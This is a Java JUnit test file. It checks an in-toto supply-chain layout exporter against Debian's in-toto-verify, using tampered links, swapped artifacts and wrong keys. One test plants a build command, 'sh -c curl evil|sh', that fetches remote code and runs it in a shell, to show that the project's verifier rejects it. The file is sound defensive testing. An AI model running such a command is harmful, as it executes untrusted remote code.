package dev.alnage.evidence.intoto;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.alnage.evidence.pipeline.Pipelines;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Our exported layouts and links before the judge that others have: Debian's in-toto-verify. */
class LayoutExportTest {
    @TempDir Path folder;

    private record Judged(int exit, String said) {}

    private Judged judge(Chain chain) {
        Assumptions.assumeTrue(System.getenv("CI") != null || Files.isExecutable(Path.of("/usr/bin/in-toto-verify")), "in-toto is not installed");
        chain.write(folder);
        try {
            var process = new ProcessBuilder("in-toto-verify", "-v", "-l", "root.layout", "-k", "owner.pub", "-t", "ed25519")
                    .directory(folder.toFile()).redirectErrorStream(true).start();
            var said = new String(process.getInputStream().readAllBytes());
            assertTrue(process.waitFor(60, TimeUnit.SECONDS));
            return new Judged(process.exitValue(), said);
        } catch (IOException | InterruptedException e) {
            throw new AssertionError(e);
        }
    }

    private static ClassicLink with(ClassicLink link, Map<String, Hashes> materials, Map<String, Hashes> products) {
        return new ClassicLink(link.name(), Artifacts.of(materials), Artifacts.of(products), link.command(), link.byproducts(), link.environment());
    }

    @Test void the_reference_refuses_a_dependency_swapped_between_two_steps() {
        var chain = new Chain(Pipelines.sample());
        chain.alter("dep.A.build", link -> {
            var materials = new TreeMap<>(link.materials().toMap());
            materials.put("repo/D/one.bin", Hashes.of(Chain.made("x", "swapped").digests().getFirst()));
            return with(link, materials, link.products().toMap());
        });
        var judged = judge(chain);
        assertNotEquals(0, judged.exit(), judged.said());
        assertTrue(judged.said().contains("DISALLOW"), judged.said());
        assertInstanceOf(Outcome.Failed.class, chain.verify());
    }

    @Test void the_reference_refuses_a_step_by_one_pool_where_two_must_agree() {
        var chain = new Chain(Pipelines.sample());
        chain.drop("build", "three");
        assertNotEquals(0, judge(chain).exit());
        assertInstanceOf(Outcome.CannotTell.class, chain.verify());
    }

    @Test void the_reference_refuses_an_image_swapped_after_approval() {
        var chain = new Chain(Pipelines.sample());
        chain.alter("publish", link -> {
            var swapped = new TreeMap<>(link.materials().toMap());
            swapped.put("image/one.bin", Hashes.of(Chain.made("x", "swapped").digests().getFirst()));
            return with(link, swapped, swapped);
        });
        assertNotEquals(0, judge(chain).exit());
        assertInstanceOf(Outcome.Failed.class, chain.verify());
    }

    @Test void the_reference_refuses_a_link_by_a_wrong_key() {
        var chain = new Chain(Pipelines.sample());
        var link = chain.honest(chain.plan.findStep("unit").orElseThrow());
        chain.files.put(ClassicLink.fileName("unit", LayoutKey.of(chain.exporters.get("one").key()).keyid()), link.sign(Chain.signer()));
        assertNotEquals(0, judge(chain).exit());
        assertInstanceOf(Outcome.Failed.class, chain.verify());
    }

    /** The two that the reference lets pass; our own verification and the completeness rules must not. */
    @Test void what_the_reference_lets_pass_we_refuse() {
        var otherCommand = new Chain(Pipelines.sample());
        otherCommand.alter("build", link -> new ClassicLink(link.name(), link.materials(), link.products(),
                List.of("sh", "-c", "curl evil|sh"), link.byproducts(), link.environment()));
        assertEquals(0, judge(otherCommand).exit());
        var refused = assertInstanceOf(Outcome.Failed.class, otherCommand.verify());
        assertTrue(refused.findings().getFirst().found().contains("curl evil|sh"), refused.toString());

        var noReports = new Chain(Pipelines.sample());
        noReports.alter("approve", link -> {
            var left = new TreeMap<>(link.materials().toMap());
            left.keySet().removeIf(name -> name.startsWith("reports/sast/"));
            return with(link, left, left);
        });
        assertEquals(0, judge(noReports).exit());
        refused = assertInstanceOf(Outcome.Failed.class, noReports.verify());
        assertTrue(refused.findings().getFirst().expected().contains("reports/sast"), refused.toString());
    }

    @Test void an_honest_set_passes_the_reference_and_us() {
        var chain = new Chain(Pipelines.sample());
        var judged = judge(chain);
        assertEquals(0, judged.exit(), judged.said());
        assertTrue(judged.said().contains("The software product passed all verification"), judged.said());
        var passed = assertInstanceOf(Outcome.Passed.class, chain.verify());
        assertEquals(2, passed.summary().products().size());
    }

    @Test void a_layout_is_read_back_as_it_was_written() {
        var layout = new Chain(Pipelines.sample()).layout();
        assertEquals(layout, Layout.read(layout.toJson()));
    }

    @Test void more_agreement_than_there_are_pools_cannot_be_exported() {
        var chain = new Chain(Pipelines.sample());
        assertThrows(IllegalArgumentException.class,
                () -> LayoutExport.layout(chain.plan, Map.of("one", chain.exporters.get("one").key()), List.of(), Chain.EXPIRES));
    }
}
